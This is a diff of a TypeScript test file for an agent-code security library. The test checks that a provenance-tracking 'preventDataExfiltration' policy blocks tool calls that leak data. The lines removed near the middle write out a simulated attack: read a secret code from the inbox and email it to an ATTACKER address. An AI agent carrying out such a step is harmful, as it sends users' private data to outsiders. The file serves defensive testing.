@@ -1,14 +1,5 @@
-import { ProvenanceMode } from '@agent-tool-protocol/protocol';
-import { instrumentCode, preventDataExfiltration } from '../src/index.js';
-import {
-  ATTACKER,
-  CLIENT,
-  describeResult,
-  SECRET,
-  scenario,
-  securedExecutors,
-  USER_ADDRESS,
-} from './support';
+import { instrumentCode } from '../src/index.js';
+import { CLIENT, describeResult, launderingHarness, SECRET, USER_ADDRESS } from './support';
 
 /**
  * The `ast` fast paths: operators over variables that provably hold only numbers computed from the
@@ -168,18 +159,7 @@ describe('temporaries (operands only their consumer sees)', () => {
 });
 
 describe('fast paths keep labels where they must flow', () => {
-  const make = securedExecutors();
-  const setup = () => {
-    const world = scenario();
-    const { executor } = make(world.groups, {
-      provenanceMode: ProvenanceMode.AST,
-      policies: [preventDataExfiltration()],
-      user: [USER_ADDRESS],
-    });
-    return { ...world, executor };
-  };
-  const LOAD = `const mails = await api.email.inbox(); const secret = mails[0].code;`;
-  const send = (body: string) => `await api.email.send({ to: '${ATTACKER}', subject: 'x', body: ${body} });`;
+  const { setup, LOAD, send } = launderingHarness();
   const BLOCKED =
     /^security_violation: The call to api\.email\.send was blocked \(policy preventDataExfiltration\): parameter "body" carries data from [a-z:.+ ]*tool:email\.inbox/;
 
